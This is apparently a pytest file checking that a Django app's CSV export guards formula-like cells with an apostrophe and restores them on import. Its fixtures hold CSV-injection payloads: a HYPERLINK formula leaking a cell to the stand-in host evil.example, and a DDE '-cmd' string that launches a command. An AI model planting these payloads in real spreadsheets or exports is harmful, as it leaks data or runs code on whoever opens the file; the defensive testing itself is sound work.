"""A cell the client wrote cannot run as a formula in the spreadsheet the owner opens the export in.

The export's CSV files carry a byte-order mark so that Excel opens them well, and their cells hold
what clients wrote: a client's name, a message's summary, a contact's phone. A text cell that starts
like a formula (= + - @, a tab or a carriage return) goes out behind an apostrophe (OWASP, "CSV
Injection"); numbers stay numbers; every reader takes the apostrophe off, so the round trip keeps
the value exactly (issue 10 §6; docs/imports.md, Export › Formats)."""

from __future__ import annotations

from decimal import Decimal

import pytest

from parting.clients.models import Client, Contact
from parting.evidence.models import Invoice, Message
from parting.imports.services import run_import
from parting.imports.text import guarded, unguarded
from tests.factories import FirmFactory
from tests.imports.test_export import at, export_bytes, import_archive, invoice, members, rows

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Acme")'


@pytest.fixture
def hostile(firm):
    client = Client.objects.create(firm=firm, name=HYPERLINK)
    Contact.objects.create(client=client, name="@boss", email="boss@acme.example", phone="+48 22 123 45 67")
    invoice(client, "-1", "2026-02-01", "2026-03-01", "-200.00")  # a credit note, numbered "-1"
    Message.objects.create(firm=firm, client=client, sent_at=at("2026-03-02"), summary="-cmd|' /C calc'!A0")
    return client


def test_text_cells_that_start_like_a_formula_go_out_behind_an_apostrophe_and_numbers_do_not(firm, hostile):
    data, _manifest = export_bytes(firm)
    files = members(data)
    (client,) = rows(files["clients.csv"])
    assert client["name"] == "'" + HYPERLINK
    (contact,) = rows(files["contacts.csv"])
    assert (contact["name"], contact["phone"]) == ("'@boss", "'+48 22 123 45 67")
    (message,) = rows(files["messages.csv"])
    assert message["summary"] == "'-cmd|' /C calc'!A0"
    (credit,) = rows(files["invoices.csv"])
    assert (credit["amount"], credit["number"]) == ("-200.00", "-1")  # numbers: a spreadsheet shows -200


def test_the_round_trip_gives_back_the_exact_values(firm, hostile, tmp_path):
    data, _manifest = export_bytes(firm)
    empty = FirmFactory(currency=firm.currency, time_zone=firm.time_zone)
    result = import_archive(empty, data, tmp_path)
    assert not result.problems, list(result.problems)
    client = Client.objects.get(firm=empty)
    assert client.name == HYPERLINK
    contact = Contact.objects.get(client=client)
    assert (contact.name, contact.phone) == ("@boss", "+48 22 123 45 67")
    assert Message.objects.get(firm=empty).summary == "-cmd|' /C calc'!A0"
    assert Invoice.objects.get(firm=empty).amount == Decimal("-200.00")


def test_a_guarded_cell_from_another_tool_reads_without_its_apostrophe(firm, tmp_path):
    path = tmp_path / "clients.csv"
    path.write_text("name,email,notes\n'=Acme,ops@acme.example,'+ VIP\nO'Brien & Co,ob@obrien.example,'tis fine\n")
    result = run_import(firm=firm, by=None, kind="clients", paths=[path])
    assert not result.problems, list(result.problems)
    assert dict(Client.objects.filter(firm=firm).values_list("name", "notes")) == {
        "=Acme": "+ VIP",
        "O'Brien & Co": "'tis fine",  # an apostrophe before anything else is the text's own
    }


def test_an_amount_guarded_as_text_reads_as_the_number(firm, tmp_path):
    Client.objects.create(firm=firm, name="Acme")
    path = tmp_path / "invoices.csv"
    path.write_text("client,number,issued_on,due_on,amount\nAcme,CN-1,2026-01-05,2026-02-04,'-200.00\n")
    result = run_import(firm=firm, by=None, kind="invoices", paths=[path])
    assert not result.problems, list(result.problems)
    assert Invoice.objects.get(firm=firm).amount == Decimal("-200.00")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+48 22", "'+48 22"),
        ("-", "'-"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),  # its own apostrophe kept
        ("''=x", "'''=x"),
        ("''x", "''x"),
        ("-200.00", "-200.00"),
        ("+5", "+5"),
        ("-1.5e-3", "-1.5e-3"),
        ("Acme", "Acme"),
        ("O'Brien", "O'Brien"),
        ("", ""),
    ],
)
def test_a_cell_is_guarded_only_where_a_spreadsheet_would_run_it_and_reads_back_as_it_was(value, cell):
    assert guarded(value) == cell
    assert unguarded([cell]) == [value]
